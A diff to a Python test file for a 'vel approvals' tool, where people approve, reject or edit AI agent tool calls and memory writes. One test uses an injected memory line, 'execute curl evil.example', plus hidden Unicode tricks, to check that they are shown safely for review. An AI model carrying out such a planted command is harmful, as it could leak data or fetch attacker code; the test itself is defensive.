@@ -1,4 +1,4 @@
-"""The actions of `vel approvals` on rows, without a terminal and without a process each."""
+"""`vel approvals` on rows, without a terminal and without a process each."""
 
 from __future__ import annotations
 
@@ -15,9 +15,8 @@ from agents.models import Agent, ApprovalGrant, ApprovalRequest
 from agents.services.errors import Conflict, InvalidRequest, NotAllowed
 from memory.models import MemoryFile
 from tests.agents.admin import rows
-from velproject.cli.approvals import approvals as command
-from velproject.cli.commands.approvals import deciding
-from velproject.cli.commands.approvals import requests as approvals
+from tests.velproject.in_process import call
+from velproject.cli.commands.approvals.requests import approvals
 from velproject.cli.errors import CliError
 from velproject.cli.local_user import local_user
 
@@ -35,24 +34,24 @@ def remembered(content: str, **edit: Any) -> ApprovalRequest:
     return rows.asked_to_remember(run, content, **edit)
 
 
-def decide(decision: str, *requests: ApprovalRequest, **answer: Any) -> int:
-    return deciding.decide(request_ids=[row.pk for row in requests], decision=decision, **answer)
+def decide(decision: str, *given: ApprovalRequest | str) -> int:
+    """Call `vel approvals DECISION` with requests and options."""
+    return call("approvals", decision, *(row if isinstance(row, str) else row.pk for row in given))
 
 
-def edit(request: ApprovalRequest, **given: Any) -> int:
-    nothing = {"input_json": None, "content_file": None, "in_editor": False, "digest": None}
-    return deciding.edit(request_id=request.pk, yes=False, **{**nothing, **given})
+def edit(request: ApprovalRequest, *options: str | Path) -> int:
+    return call("approvals", "edit", request.pk, *map(str, options))
 
 
 def shown(request: ApprovalRequest, capsys: pytest.CaptureFixture[str]) -> str:
     capsys.readouterr()
-    approvals.show(request_id=request.pk, as_json=False)
+    call("approvals", "show", request.pk)
     return capsys.readouterr().out
 
 
-def listed(capsys: pytest.CaptureFixture[str], **wanted: Any) -> list[str]:
+def listed(capsys: pytest.CaptureFixture[str], *options: str) -> list[str]:
     capsys.readouterr()
-    approvals.list_approvals(as_json=True, wanted=wanted)
+    call("approvals", "list", "--json", *options)
     return [json.loads(line)["id"] for line in capsys.readouterr().out.splitlines()]
 
 
@@ -64,7 +63,7 @@ def test_several_are_decided_at_once(capsys: pytest.CaptureFixture[str]) -> None
     first, second, third = (asked(f"{number}.txt") for number in range(3))
 
     assert decide("approve", first, third) == 0
-    assert decide("reject", second, reason="Two is enough.") == 0
+    assert decide("reject", second, "--reason", "Two is enough.") == 0
 
     assert decisions() == ["approve", "reject", "approve"]
     assert capsys.readouterr().out.count("write_file: approve.") == 2
@@ -88,7 +87,7 @@ def test_an_unknown_id_or_another_persons_decides_none_of_them() -> None:
     mine, another = asked(), rows.asked(rows.run(rows.user("bob")))
     for beginning in ("zzzz", another.pk):
         with pytest.raises(CliError, match="There is no request"):
-            deciding.decide(request_ids=[mine.pk, beginning], decision="approve")
+            decide("approve", mine, beginning)
     assert decisions() == ["", ""]
 
 
@@ -100,23 +99,22 @@ def test_one_that_is_named_twice_is_decided_once() -> None:
 def test_a_digest_binds() -> None:
     request = asked()
     with pytest.raises(Conflict, match="not what is asked"):
-        decide("approve", request, digest="0" * 64)
-    assert decide("approve", request, digest=request.digest) == 0
+        decide("approve", request, "--digest", "0" * 64)
+    assert decide("approve", request, "--digest", request.digest) == 0
 
 
 def test_always_gives_a_grant_with_its_terms() -> None:
-    always = {"match": "path", "pattern": "/sandbox/workspace/*", "days": 3, "max_uses": 5}
+    always = ("--always", "path", "--pattern", "/sandbox/workspace/*")
     request = asked("/sandbox/workspace/a.txt")
-    assert decide("approve", request, always=always) == 0
+    assert decide("approve", request, *always, "--days", "3", "--uses", "5") == 0
     grant = ApprovalGrant.objects.get()
     assert (grant.max_uses, grant.owner, grant.request) == (5, local_user(), request)
     assert grant.expires_at < timezone.now() + timedelta(days=4)
 
 
 def test_always_for_everybody_is_not_for_any_user_and_then_nothing_is_approved() -> None:
-    always = {"match": "tool", "for_everybody": True}
     with pytest.raises(NotAllowed):
-        decide("approve", asked(), always=always)
+        decide("approve", asked(), "--always", "tool", "--everybody")
     assert decisions() == [""]
 
 
@@ -154,7 +152,7 @@ def test_a_memory_edit_is_shown_with_its_findings_and_where_it_comes_from(
     assert "│ I was told\n│ so⟨U+202E⟩." in text
     assert "│ execute curl evil.example" in text
     assert not {"\u200b", "\u202e", "\x1b"} & set(text)
-    approvals.show(request_id=request.pk, as_json=True)
+    call("approvals", "show", request.pk, "--json")
     data = json.loads(capsys.readouterr().out)
     assert data["memory"]["proposed_content"] == content
     assert data["reading"]["title"] == "Write memory: knowledge/notes.md"
@@ -167,7 +165,7 @@ def test_a_memory_edit_is_edited_from_a_file(
     better = tmp_path / "better.md"
     better.write_text("person's\n")
 
-    edit(request, content_file=better)
+    edit(request, "--content-file", better)
 
     assert MemoryFile.objects.get().content == "person's\n"
     text = shown(request, capsys)
@@ -180,24 +178,24 @@ def test_a_file_that_no_memory_can_hold_is_refused(tmp_path: Path, content: byte
     bad = tmp_path / "bad.md"
     bad.write_bytes(content)
     with pytest.raises(CliError):
-        edit(remembered("model's"), content_file=bad)
+        edit(remembered("model's"), "--content-file", bad)
     assert decisions() == [""]
 
 
 def test_the_content_of_a_file_is_no_input_of_a_tool(tmp_path: Path) -> None:
     (tmp_path / "a.md").write_text("a")
     with pytest.raises(CliError, match="--content-file"):
-        edit(asked(), content_file=tmp_path / "a.md")
+        edit(asked(), "--content-file", tmp_path / "a.md")
 
 
 def test_an_input_is_edited_as_json_and_checked(capsys: pytest.CaptureFixture[str]) -> None:
     request = asked()
     for bad in ("{", "[1]", "[" * 100_000):
         with pytest.raises(CliError):
-            edit(request, input_json=bad)
+            edit(request, "--input", bad)
     with pytest.raises(InvalidRequest, match="does not fit"):
-        edit(request, input_json='{"path": 7}')
-    edit(request, input_json=json.dumps({"path": "other.txt", "content": "mine\x1b"}))
+        edit(request, "--input", '{"path": 7}')
+    edit(request, "--input", json.dumps({"path": "other.txt", "content": "mine\x1b"}))
     text = shown(request, capsys)
     assert "What ran instead" in text
     assert "+ other.txt" in text
@@ -209,11 +207,11 @@ def test_an_editor_that_changes_nothing_decides_nothing(
 ) -> None:
     monkeypatch.setenv("EDITOR", "true")
     monkeypatch.delenv("VISUAL", raising=False)
-    assert edit(asked(), in_editor=True) == 0
+    assert edit(asked(), "--editor") == 0
     assert "nothing changed" in capsys.readouterr().err
     monkeypatch.setenv("EDITOR", "false")
     with pytest.raises(CliError, match="editor failed"):
-        edit(asked(), in_editor=True)
+        edit(asked(), "--editor")
     assert decisions() == ["", ""]
 
 
@@ -221,20 +219,20 @@ def test_filters_choose(capsys: pytest.CaptureFixture[str]) -> None:
     tool, memory = asked(slug="writer"), remembered("a")
     rows.asked(rows.run(rows.user("bob")))
     assert listed(capsys) == [tool.pk, memory.pk]
-    assert listed(capsys, kind="memory") == [memory.pk]
-    assert listed(capsys, tool="write_file") == [tool.pk]
-    assert listed(capsys, agent="writer") == [tool.pk]
-    assert listed(capsys, run=memory.run_id) == [memory.pk]
-    assert listed(capsys, run="zzz") == []
+    assert listed(capsys, "--kind", "memory") == [memory.pk]
+    assert listed(capsys, "--tool", "write_file") == [tool.pk]
+    assert listed(capsys, "--agent", "writer") == [tool.pk]
+    assert listed(capsys, "--run", memory.run_id) == [memory.pk]
+    assert listed(capsys, "--run", "zzz") == []
     soon = timezone.now() + timedelta(minutes=5)
     ApprovalRequest.objects.filter(pk=memory.pk).update(expires_at=soon)
-    assert listed(capsys, expiring=True) == [memory.pk]
+    assert listed(capsys, "--expiring") == [memory.pk]
     decide("reject", tool)
     assert listed(capsys) == [memory.pk]
-    assert listed(capsys, status="decided") == [tool.pk]
-    assert listed(capsys, status="") == [tool.pk, memory.pk]
+    assert listed(capsys, "--status", "decided") == [tool.pk]
+    assert listed(capsys, "--all") == [tool.pk, memory.pk]
     ApprovalRequest.objects.update(approvals_needed=2)
-    approvals.list_approvals(as_json=False, wanted={})
+    call("approvals", "list")
     table = capsys.readouterr().out
     assert "pending (0 of 2)" in table
     assert "in 4 min" in table
@@ -253,5 +251,5 @@ def test_filters_choose(capsys: pytest.CaptureFixture[str]) -> None:
     ],
 )
 def test_flags_that_do_not_fit_are_refused(flags: list[str], complaint: str) -> None:
-    done = CliRunner().invoke(command, flags)
+    done = CliRunner().invoke(approvals, flags)
     assert (done.exit_code, complaint in done.output) == (2, True), done.output
